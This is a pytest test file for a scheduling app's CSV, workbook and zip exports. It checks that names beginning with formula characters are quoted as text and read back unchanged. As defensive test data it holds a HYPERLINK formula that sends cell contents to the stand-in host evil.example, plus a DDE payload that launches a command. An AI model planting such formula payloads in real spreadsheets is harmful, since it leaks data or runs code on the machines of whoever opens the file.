"""What leaves the app is text: a title, crew or base named like a formula is written as
text (quoted) in every CSV and workbook, numbers stay numbers, and a plan folder read back
gives the reasons written."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from scheduler.app import exports as e
from scheduler.domain.cells import restore_cell, spreadsheet_cell, spreadsheet_text
from scheduler.domain.model import Scenario
from scheduler.domain.plan import Plan
from scheduler.io.plan_io import read_plan, write_plan
from scheduler.io.scenario_files import (
    scenario_from_upload,
    scenario_to_xlsx_bytes,
    scenario_to_zip_bytes,
)
from scheduler.io.tables import write_scenario
from scheduler.io.validation import load_scenario
from scheduler.services.planning import PlanOutcome, plan_scenario
from tests.factories import FORMULA_NAMES, formula_scenario, tiny_scenario

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("总裁的替身", "总裁的替身"),  # kept
        ("T01", "T01"),
        ("a=b", "a=b"),
        (EVIL, "'" + EVIL),  # broken: each formula start quoted
        ("+1", "'+1"),
        ("-5 天", "'-5 天"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
    ],
)
def test_text_cells_are_quoted_and_restored(text: str, written: str) -> None:
    assert spreadsheet_text(text) == written
    assert restore_cell(written) == text


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell(None) is None


@pytest.fixture(scope="module")
def evil(tutorial: Scenario) -> tuple[Scenario, PlanOutcome]:
    titles = (replace(tutorial.titles[0], name=EVIL), *tutorial.titles[1:])
    crews = (replace(tutorial.crews[0], name=DDE), *tutorial.crews[1:])
    bases = (replace(tutorial.bases[0], name="@evil"), *tutorial.bases[1:])
    scenario = replace(tutorial, titles=titles, crews=crews, bases=bases)
    outcome = plan_scenario(scenario, time_limit=5)
    assert outcome.ok
    return scenario, outcome


def formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    ]


def test_workbooks_hold_no_formula(evil: tuple[Scenario, PlanOutcome]) -> None:
    scenario, outcome = evil
    books = {
        "plan": e.plan_workbook(scenario, outcome.plan, outcome.kpis),
        "crews": e.crew_schedule_workbook(scenario, outcome.plan),
        "booking": e.booking_workbook(scenario, outcome.plan),
    }
    for name, data in books.items():
        assert formulas(data) == [], name
    plan_book = openpyxl.load_workbook(io.BytesIO(books["plan"]))
    values = [c.value for row in plan_book.worksheets[0].iter_rows() for c in row]
    assert "'" + EVIL in values  # the name is there, as text


def test_crew_csv_quotes_the_crew_name(evil: tuple[Scenario, PlanOutcome]) -> None:
    scenario, outcome = evil
    crew_id = scenario.crews[0].crew_id
    text = e.crew_schedule_csv(scenario, outcome.plan, crew_id).decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)


def test_kpi_numbers_stay_numbers() -> None:
    data = e.plan_workbook(tiny_scenario(), Plan((), {}), {"cost": -5, "x": "-y"})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["KPI"]
    values = {row[3].value: row[1].value for row in sheet.iter_rows(min_row=2)}  # key → value
    assert values == {"cost": -5, "x": "'-y"}


def test_plan_folder_reasons_round_trip(tmp_path: Path) -> None:
    reasons = {"T1": "=1+1", "T2": "-5 天 没有场景", "T3": "'引号", "T4": "普通原因"}
    write_plan(tmp_path / "out", Plan((), reasons))
    text = (tmp_path / "out" / "unscheduled.csv").read_text(encoding="utf-8")
    assert "T1,'=1+1" in text and "T4,普通原因" in text
    back, _ = read_plan(tmp_path / "out")
    assert dict(back.unscheduled) == reasons


# -- scenario exports: workbook, CSV folder, zip ---------------------------------------


def csv_cells(folder: Path) -> list[str]:
    """Every cell of every CSV file in ``folder``, as a spreadsheet would parse it."""
    return [
        cell
        for path in sorted(folder.glob("*.csv"))
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
        for cell in row
    ]


def test_scenario_workbook_keeps_plain_names_and_numbers() -> None:
    data = scenario_to_xlsx_bytes(tiny_scenario())
    book = openpyxl.load_workbook(io.BytesIO(data))
    titles = [list(row) for row in book["titles"].iter_rows(min_row=2)]
    assert [row[1].value for row in titles] == [t.name for t in tiny_scenario().titles]
    assert all(row[3].data_type == "n" and isinstance(row[3].value, int) for row in titles)
    assert [row[3].value for row in book["sets"].iter_rows(min_row=2)] == [3000, 5000, 8000, 2500]
    assert [row[2].value for row in book["title_needs"].iter_rows(min_row=2)] == [2, 1, 3, 1, 2, 2]
    assert scenario_from_upload("", data, "tiny.xlsx") == tiny_scenario()


def test_scenario_workbook_holds_formula_names_as_text_and_reads_them_back(
    tmp_path: Path,
) -> None:
    scenario = formula_scenario()
    data = scenario_to_xlsx_bytes(scenario)
    assert formulas(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    names = [row[1].value for row in book["titles"].iter_rows(min_row=2)]
    assert names == ["'" + name for name in FORMULA_NAMES[:4]]
    assert scenario_from_upload("", data, "evil.xlsx") == scenario
    write_scenario(scenario, tmp_path / "evil.xlsx")
    assert formulas((tmp_path / "evil.xlsx").read_bytes()) == []
    assert load_scenario(tmp_path / "evil.xlsx") == scenario


def test_scenario_csv_folder_keeps_plain_names(tmp_path: Path) -> None:
    write_scenario(tiny_scenario(), tmp_path / "tiny")
    text = (tmp_path / "tiny" / "titles.csv").read_text(encoding="utf-8")
    assert "T01,总裁的契约新娘,都市,3," in text
    assert not any(cell.startswith("'") for cell in csv_cells(tmp_path / "tiny"))


def test_scenario_csv_folder_quotes_formula_names_and_reads_them_back(tmp_path: Path) -> None:
    scenario = formula_scenario()
    write_scenario(scenario, tmp_path / "evil")
    cells = csv_cells(tmp_path / "evil")
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA_NAMES[0] in cells and "''引号开头" in cells and "'@列" in cells
    assert load_scenario(tmp_path / "evil") == scenario


def test_scenario_zip_keeps_plain_names() -> None:
    data = scenario_to_zip_bytes(tiny_scenario())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("scenario/titles.csv").decode("utf-8")
    assert "T01,总裁的契约新娘,都市,3," in text
    assert scenario_from_upload("", data, "tiny.zip") == tiny_scenario()


def test_scenario_zip_quotes_formula_names_and_reads_them_back() -> None:
    scenario = formula_scenario()
    data = scenario_to_zip_bytes(scenario)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("scenario/titles.csv").decode("utf-8")
    assert "'=HYPERLINK(" in text and "'+1" in text and ",'=T01," in text
    assert "\n=" not in text and ",=" not in text
    assert scenario_from_upload("", data, "evil.zip") == scenario


def test_a_hand_made_csv_cell_loses_one_leading_quote(tmp_path: Path) -> None:
    # The documented inverse of the writers' quote (docs/SPEC.md, Scenario: the input).
    write_scenario(tiny_scenario(), tmp_path / "mine")
    titles = tmp_path / "mine" / "titles.csv"
    titles.write_text(
        titles.read_text(encoding="utf-8").replace("总裁的契约新娘", "'总裁的契约新娘"),
        encoding="utf-8",
    )
    assert load_scenario(tmp_path / "mine").titles[0].name == "总裁的契约新娘"
